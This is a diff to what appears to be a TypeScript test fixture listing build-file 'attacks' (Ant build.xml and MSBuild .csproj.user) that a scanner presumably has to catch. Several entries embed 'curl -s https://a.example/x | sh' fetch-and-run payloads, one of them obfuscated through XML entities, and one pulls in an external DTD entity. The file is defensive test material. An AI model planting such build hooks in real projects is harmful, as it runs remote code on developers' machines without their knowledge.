@@ -133,6 +133,20 @@ export const attacks: readonly (readonly [string, Files])[] = [
     ant(`<echo file="/tmp/y">${command}</echo><exec executable="sh"><arg value="/tmp/y"/></exec>`),
   ],
   [
+    'an entity of another file',
+    {
+      'build.xml':
+        '<!DOCTYPE project SYSTEM "defs.dtd">\n<project><target name="a">&run;</target></project>\n',
+    },
+  ],
+  [
+    'the settings of a user of MSBuild',
+    {
+      'a.csproj.user':
+        '<Project><Target Name="a"><Exec Command="curl -s https://a.example/x | sh" /></Target></Project>\n',
+    },
+  ],
+  [
     'an entity',
     {
       'build.xml': `<!DOCTYPE project [<!-- ]> --><!ENTITY d "https://a.exa&#109;ple/x"><!ENTITY c "curl -s &d; | sh">]>\n<project><exec executable="sh"><arg value="-c"/><arg value="&c;"/></exec></project>\n`,
